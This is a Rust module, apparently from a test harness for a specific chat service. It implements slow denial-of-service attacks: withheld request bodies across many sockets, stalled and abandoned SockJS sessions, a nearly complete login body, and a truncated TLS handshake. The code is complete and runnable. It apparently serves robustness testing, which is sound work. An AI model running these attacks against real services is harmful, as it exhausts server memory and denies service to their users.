//! Attacks on the memory of the node before a session exists: bodies and handshakes that do not end.

use serde_json::json;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::{Duration, sleep, timeout};

use super::{Attacker, Outcome, PAUSE, Socket, drain, send};

/// How long a body is not answered when its session waits.
const STALL: Duration = Duration::from_millis(500);
/// How many requests a SockJS session has, at most.
const REQUESTS: usize = 90;
/// How many stalled sessions have as many; the others have two, one of which a session keeps waiting.
const CROWDED_SESSIONS: usize = 11;

/// A SockJS session of which nothing is received.
struct SockJs {
    stream: Socket,
    path: String,
}

impl SockJs {
    async fn open(attacker: &Attacker) -> Outcome<Self> {
        let mut stream = attacker.place.open().await?;
        let path = format!("/ws-chat/000/{:016x}", rand::random::<u64>());
        let line = format!("POST {path}/xhr");
        attacker.exchange(&mut stream, &line, b"").await?;
        Ok(Self { stream, path })
    }

    /// Sends as many of the same frame in one body.
    async fn send(&mut self, attacker: &Attacker, frame: &[u8], times: usize) -> Outcome<()> {
        let body = json!(vec![String::from_utf8_lossy(frame); times]).to_string();
        let line = format!("POST {}/xhr_send", self.path);
        attacker
            .exchange(&mut self.stream, &line, body.as_bytes())
            .await?;
        Ok(())
    }
}

/// Bodies for one session, all but the last byte of each.
pub(super) async fn withheld_sockjs(attacker: &mut Attacker) -> Outcome<()> {
    let session = SockJs::open(attacker).await?;
    let bytes = attacker.request_bytes - 1;
    bodies(attacker, &session.path, bytes, REQUESTS).await
}

/// Whole bodies for a session that waits until its client receives, which they never do.
pub(super) async fn stalled_sockjs(attacker: &mut Attacker) -> Outcome<()> {
    let mut session = SockJs::open(attacker).await?;
    let topic = format!("/topic{}", session.path);
    let connect = b"CONNECT\naccept-version:1.2\nhost:x\nvisitor-token:new\n\n\0";
    session.send(attacker, connect, 1).await?;
    let subscribe = format!("SUBSCRIBE\nid:1\ndestination:{topic}\n\n\0");
    session.send(attacker, subscribe.as_bytes(), 1).await?;
    let large = send(&topic, &"x".repeat(30 << 10));
    for _ in 0..2 {
        // The one that waits for the client is not answered, and keeps its body in memory.
        if let Ok(answered) = timeout(STALL, session.send(attacker, &large, 11)).await {
            answered?;
        }
    }
    let count = match attacker.place.number < CROWDED_SESSIONS {
        true => REQUESTS,
        false => 2,
    };
    bodies(attacker, &session.path, attacker.request_bytes, count).await
}

/// Sends the first bytes of the longest body for a session on many sockets at once, until all are closed.
async fn bodies(attacker: &Attacker, path: &str, bytes: usize, count: usize) -> Outcome<()> {
    let mut body = b"[\"".to_vec();
    body.resize(attacker.request_bytes - 2, b'x');
    body.extend_from_slice(b"\"]");
    body.truncate(bytes);
    let body: std::rc::Rc<[u8]> = body.into();
    let head = attacker.request(&format!("POST {path}/xhr_send"), attacker.request_bytes);
    let mut requests = JoinSet::new();
    for _ in 0..count {
        let (place, head, body) = (attacker.place, head.clone(), body.clone());
        requests.spawn_local(async move {
            let mut stream = place.open().await?;
            stream.write_all(&head).await?;
            stream.write_all(&body).await?;
            drain(stream).await
        });
        sleep(PAUSE).await;
    }
    while requests.join_next().await.is_some() {}
    Ok(())
}

/// SockJS sessions that are opened and left alone.
pub(super) async fn abandoned_sockjs(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.place.open().await?;
    for _ in 0..100 {
        let line = format!("POST /ws-chat/000/{:016x}/xhr", rand::random::<u64>());
        attacker.exchange(&mut stream, &line, b"").await?;
    }
    Ok(())
}

/// A body for REST, all but its last byte.
pub(super) async fn withheld_rest(attacker: &mut Attacker) -> Outcome<()> {
    const BYTES: usize = 60_000;
    let mut stream = attacker.place.open().await?;
    let head = attacker.request("POST /api/v1/auth/login", BYTES);
    stream.write_all(&head).await?;
    stream.write_all(&vec![b' '; BYTES - 1]).await?;
    drain(stream).await
}

/// The first message of TLS, all but its last byte.
pub(super) async fn withheld_handshake(attacker: &mut Attacker) -> Outcome<()> {
    const BYTES: u16 = 16 << 10;
    let mut stream = attacker.place.open().await?;
    // A record of a handshake, and in it a ClientHello that fills it.
    let [high, low] = BYTES.to_be_bytes();
    let [hello_high, hello_low] = (BYTES - 4).to_be_bytes();
    let mut record = vec![22, 3, 1, high, low, 1, 0, hello_high, hello_low, 3, 3];
    record.resize(5 + usize::from(BYTES) - 1, 0);
    stream.write_all(&record).await?;
    drain(stream).await
}
